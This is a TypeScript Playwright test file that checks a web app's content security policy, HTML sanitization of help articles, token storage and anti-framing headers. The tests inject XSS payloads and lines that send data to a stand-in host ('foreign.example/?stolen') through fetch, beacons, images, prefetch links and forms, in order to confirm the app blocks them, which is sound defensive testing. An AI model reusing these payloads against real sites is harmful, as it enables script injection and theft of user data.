import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { appBase } from '../support/browser';
import { screenAddress, builtScreens } from '../support/builtScreens';
import { maria } from '../support/people';
import { signInAs } from '../support/person';
import { expect, fault, test } from './support';

const FOREIGN = 'http://foreign.example';

/** Records requests to a foreign host. The host answers every request. */
async function foreignHost(page: Page): Promise<string[]> {
  const asked: string[] = [];
  await page.route(`${FOREIGN}/**`, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'window.done = true' });
  });
  return asked;
}

const done = (page: Page) => page.evaluate(() => 'done' in window);
const refusals = (complaints: string[]) => [
  ...new Set(complaints.flatMap((line) => /^policy: (\S+) refused/.exec(line)?.[1] ?? [])),
];

test('no screen violates the content security policy', async ({ page }) => {
  test.setTimeout(180_000);
  await signInAs(page, maria);
  // Every test checks the console at the end: see support.ts.
  for (const path of builtScreens) {
    await page.goto(screenAddress(maria, path));
    await expect(page.locator('h1').first()).toBeVisible();
    await page.waitForLoadState('networkidle');
  }
});

test.describe('blocks injected content', () => {
  for (const [what, markup, directive] of [
    ['a script', '<script>window.done = true</script>', 'script-src-elem'],
    ['a script of another host', `<script src="${FOREIGN}/a.js"></script>`, 'script-src-elem'],
    ['a handler', '<img src="data:," onerror="window.done = true">', 'script-src-attr'],
    ['a style', '<p style="position: fixed; inset: 0">Sign in here</p>', 'style-src-attr'],
    ['a style sheet', '<style>body { display: none }</style>', 'style-src-elem'],
    ['a frame', `<iframe src="${FOREIGN}/"></iframe>`, 'frame-src'],
    ['a plug-in', `<object data="${FOREIGN}/"></object>`, 'object-src'],
    ['another base', `<base href="${FOREIGN}/">`, 'base-uri'],
  ] as const)
    test(`${what} in the HTML file`, async ({ page, complaints }) => {
      const asked = await foreignHost(page);
      await page.route(`${appBase}/`, async (route) => {
        const html = await (await route.fetch()).text();
        await route.fulfill({ contentType: 'text/html', body: html.replace('</body>', `${markup}</body>`) });
      });
      await page.goto('/');
      await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
      expect(refusals(complaints)).toEqual([directive]);
      expect(await done(page)).toBe(false);
      expect(asked).toEqual([]);
      complaints.length = 0;
    });

  for (const [what, code, directive] of [
    ['a text run as code', "eval('window.done = true')", 'require-trusted-types-for'],
    ['a function made of text', "new Function('window.done = true')()", 'require-trusted-types-for'],
    ['markup as text', "document.body.innerHTML = '<p>Sign in here</p>'", 'require-trusted-types-for'],
    ['a policy of its own', "trustedTypes.createPolicy('mine', {})", 'trusted-types'],
    ['a picture of another host', `new Image().src = '${FOREIGN}/?stolen'`, 'img-src'],
    ['a call to another host', `void fetch('${FOREIGN}/?stolen').catch(() => undefined)`, 'connect-src'],
    ['a beacon to another host', `navigator.sendBeacon('${FOREIGN}/?stolen')`, 'connect-src'],
    [
      'something of another host fetched in advance',
      `const link = document.createElement('link'); link.rel = 'prefetch'; link.href = '${FOREIGN}/?stolen'; document.head.append(link)`,
      'default-src',
    ],
    [
      'a form sent to another host',
      `const form = document.createElement('form'); form.action = '${FOREIGN}/'; document.body.append(form); form.submit()`,
      'form-action',
    ],
  ] as const)
    test(`${what} added by a script (FAULT-23, FAULT-69)`, async ({ page, complaints }) => {
      const asked = await foreignHost(page);
      await signInAs(page, maria);
      // Runs in a separate task, because code that the test itself evaluates bypasses the policy.
      await page.evaluate(`setTimeout(() => { try { ${code} } catch {} })`);
      await expect.poll(() => refusals(complaints)).toEqual([directive]);
      expect(await done(page)).toBe(false);
      expect(asked).toEqual([]);
      complaints.length = 0;
    });
});

test('FAULT-68, FAULT-69 a hostile article causes no policy violations, because it is sanitized first', async ({
  page,
}) => {
  const asked = await foreignHost(page);
  const content =
    '<p style="position: fixed; inset: 0" onclick="window.done = true">Harmless words</p><style>body { display: none }</style>' +
    `<svg onload="window.done = true"><script>window.done = true</script></svg><img src="${FOREIGN}/pixel.gif" onerror="window.done = true">` +
    `<iframe src="${FOREIGN}/"></iframe><form action="${FOREIGN}/"><input name="body"></form>` +
    `<link rel="stylesheet" href="${FOREIGN}/a.css"><object data="${FOREIGN}/"></object><video poster="${FOREIGN}/p.png"></video>`;
  await fault({
    match: 'helpPosts',
    kind: 200,
    times: 'always',
    body: [{ id: 1, title: 'Hostile', content, permalink: 'https://help.example/1' }],
  });
  await signInAs(page, maria);
  await page.getByRole('button', { name: 'Help', exact: true }).click();
  await page.getByRole('button', { name: /^User Guide/ }).click();
  await page.getByRole('button', { name: 'Hostile' }).click();
  await expect(page.getByRole('dialog', { name: 'Hostile' }).getByText('Harmless words')).toBeVisible();
  expect(await done(page)).toBe(false);
  expect(asked).toEqual([]);
});

test('FAULT-23 tokens are only in the headers of API calls', async ({ page, context }) => {
  const withTokens = new Set<string>();
  const addresses: string[] = [];
  page.on('request', (request) => {
    addresses.push(request.url());
    const { pathname } = new URL(request.url());
    if (request.headers().idtoken) withTokens.add(/^\/[\w-]+/.exec(pathname)?.[0] ?? pathname);
  });
  await signInAs(page, maria);
  await page.getByRole('button', { name: 'Help', exact: true }).click();
  await page.getByRole('button', { name: /^User Guide/ }).click();
  await expect(page.getByRole('dialog').getByRole('listitem').first()).toBeVisible();
  expect(withTokens.size).toBeGreaterThan(0);
  // The help and the news share the API's host here. The definition of the call decides whether tokens are sent, not
  // the address.
  expect(addresses.some((address) => address.includes('/public-service/'))).toBe(true);
  expect([...withTokens]).not.toContain('/public-service');

  const tokens = (await context.cookies()).filter(({ name }) => /token/i.test(name));
  expect(tokens.map(({ name }) => name).sort()).toEqual(['accessToken', 'idToken']);
  const kept = await page.evaluate(async () => {
    const all: unknown[] = [{ ...localStorage }, { ...sessionStorage }, location.href, history.state];
    for (const { name } of await indexedDB.databases()) {
      if (!name) continue;
      const opened = indexedDB.open(name);
      const database = await new Promise<IDBDatabase>((resolve) => {
        opened.onsuccess = () => resolve(opened.result);
      });
      for (const store of database.objectStoreNames) {
        const read = database.transaction(store).objectStore(store).getAll();
        await new Promise((resolve) => (read.onsuccess = resolve));
        all.push(read.result);
      }
      database.close();
    }
    return JSON.stringify(all);
  });
  for (const { value } of tokens)
    for (const text of [kept, ...addresses]) expect(text).not.toContain(decodeURIComponent(value));
});

test.describe('FAULT-100 the page in a frame of another site', () => {
  /** A real server is required: a page from an intercepted request may not access this machine. */
  const site = createServer((request, response) => {
    const address = new URL(request.url ?? '', FOREIGN).searchParams.get('frame');
    response.setHeader('Content-Type', 'text/html').end(`<iframe src="${address}" title="Framed"></iframe>`);
  });
  test.beforeAll(async () => once(site.listen(0, '127.0.0.1'), 'listening'));
  test.afterAll(() => site.close());

  async function frame(page: Page, address: string) {
    const { port } = site.address() as AddressInfo;
    await page.goto(`http://127.0.0.1:${port}/?frame=${encodeURIComponent(address)}`);
    return page.frameLocator('iframe').getByRole('heading', { name: 'Sign in' });
  }

  test('is blocked by the shipped headers', async ({ page, complaints }) => {
    const heading = await frame(page, `${appBase}/`);
    await expect.poll(() => complaints.join('\n')).toContain("frame-ancestors 'none'");
    await expect(heading).toBeHidden();
    complaints.length = 0;
  });

  test('is displayed if the host omits them', async ({ page }) => {
    await page.route(`${appBase}/`, async (route) => {
      const body = await (await route.fetch()).text();
      await route.fulfill({ contentType: 'text/html', body });
    });
    await expect(await frame(page, `${appBase}/`)).toBeVisible();
  });
});
